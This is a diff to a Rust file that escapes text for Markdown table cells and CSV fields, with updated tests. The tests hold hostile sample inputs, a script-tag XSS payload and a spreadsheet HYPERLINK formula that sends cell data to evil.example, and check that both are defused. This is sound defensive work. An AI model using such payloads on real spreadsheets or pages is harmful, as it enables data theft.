@@ -37,36 +37,42 @@ pub fn terminal_message(text: &str) -> String {
     format!("{}{}", &text[..text.len() - body.len()], terminal(body))
 }
 
-/// Text safe inside a Markdown table cell (and anywhere in a Markdown line): control characters
-/// escaped as on the terminal, HTML's `& < >` as entities, and every Markdown metacharacter
-/// (emphasis, links, code, headings, tables, lists; `:` too, which stops a URL from becoming
-/// a live autolink) backslash-escaped, so that the cell renders as the literal text.
+/// Text safe inside a Markdown table cell or list item: control characters escaped as on the
+/// terminal, HTML's `& < >` as entities, the metacharacters of inline Markdown (emphasis, code,
+/// links and images, tables, strikethrough) backslash-escaped, a leading `#`, `-`, `+` or `=`
+/// too (headings, lists), and `://` and `www.` broken (`:\/\/`, `www\.`) so that a URL is
+/// not a live link: the cell renders as the literal text and stays readable.
 pub fn markdown(text: &str) -> String {
+    let text = terminal(text);
     let mut out = String::with_capacity(text.len());
-    for c in terminal(text).chars() {
+    if text.starts_with(['#', '-', '+', '=']) {
+        out.push('\\');
+    }
+    for c in text.chars() {
         match c {
             '&' => out.push_str("&amp;"),
             '<' => out.push_str("&lt;"),
             '>' => out.push_str("&gt;"),
-            '\\' | '`' | '*' | '_' | '{' | '}' | '[' | ']' | '(' | ')' | '#' | '+' | '-' | '!' | '|' | '~' | '"' | ':' => {
+            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
                 out.push('\\');
                 out.push(c);
             }
             c => out.push(c),
         }
     }
-    out
+    out.replace("://", ":\\/\\/").replace("www.", "www\\.")
 }
 
-/// A CSV field: a cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
-/// `@`, tab or carriage return) gets a leading `'` (OWASP's advice) — a number such as `-0.5`
-/// stays a number — then RFC 4180 quoting: fields with a comma, quote or line break are quoted,
-/// quotes doubled.
+/// A CSV field: control characters shown escaped as on the terminal (a record stays one line,
+/// and a file shown with `cat` is safe); a cell that a spreadsheet would read as a formula
+/// (starting with `=`, `+`, `-` or `@`; the tab and carriage return OWASP also lists are
+/// escaped already) gets a leading `'`, OWASP's advice — a number such as `-0.5` stays a number;
+/// then RFC 4180 quoting: fields with a comma or quote are quoted, quotes doubled.
 pub fn csv(text: &str) -> String {
-    let text = redact(text);
-    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !text.parse::<f64>().is_ok_and(f64::is_finite);
-    let defused = if formula { format!("'{text}") } else { text.into_owned() };
-    if defused.contains([',', '"', '\n', '\r']) {
+    let text = terminal(text);
+    let formula = text.starts_with(['=', '+', '-', '@']) && !text.parse::<f64>().is_ok_and(f64::is_finite);
+    let defused = if formula { format!("'{text}") } else { text };
+    if defused.contains([',', '"']) {
         format!("\"{}\"", defused.replace('"', "\"\""))
     } else {
         defused
@@ -88,20 +94,22 @@ mod tests {
 
     #[test]
     fn markdown_cells_render_as_literal_text() {
-        assert_eq!(markdown("<script>alert(1)</script>"), "&lt;script&gt;alert\\(1\\)&lt;/script&gt;");
-        assert_eq!(markdown("a|b\n[x](http://e) *y* `z`"), "a\\|b\\\\n\\[x\\]\\(http\\://e\\) \\*y\\* \\`z\\`");
-        assert_eq!(markdown("q4_k_s"), "q4\\_k\\_s");
+        assert_eq!(markdown("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;");
+        assert_eq!(markdown("a|b\n[x](http://e.example) *y* `z`"), "a\\|b\\\\n\\[x\\](http:\\/\\/e.example) \\*y\\* \\`z\\`");
+        assert_eq!(markdown("# www.evil.example"), "\\# www\\.evil.example");
+        assert_eq!(markdown("q4_k_s warm-ups: 3"), "q4\\_k\\_s warm-ups: 3");
     }
 
     #[test]
     fn csv_formulas_are_defused_and_fields_quoted() {
         assert_eq!(csv(r#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#), r#""'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")""#);
         assert_eq!((csv("-0.5"), csv("+1")), ("-0.5".to_owned(), "+1".to_owned()), "numbers stay numbers");
-        for lead in ["+A1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-inf"] {
-            assert!(csv(lead).trim_start_matches('"').starts_with('\''), "{lead:?}");
+        for formula in ["+A1", "-2+3", "@SUM(A1)", "-inf"] {
+            assert!(csv(formula).starts_with('\''), "{formula:?}");
         }
+        assert_eq!((csv("\tx"), csv("\r=1")), ("\\tx".to_owned(), "\\r=1".to_owned()), "inert: shown escaped");
         assert_eq!(csv("plain"), "plain");
         assert_eq!(csv("a,b"), "\"a,b\"");
-        assert_eq!(csv("say \"hi\"\n"), "\"say \"\"hi\"\"\n\"");
+        assert_eq!(csv("say \"hi\"\n"), "\"say \"\"hi\"\"\\n\"");
     }
 }
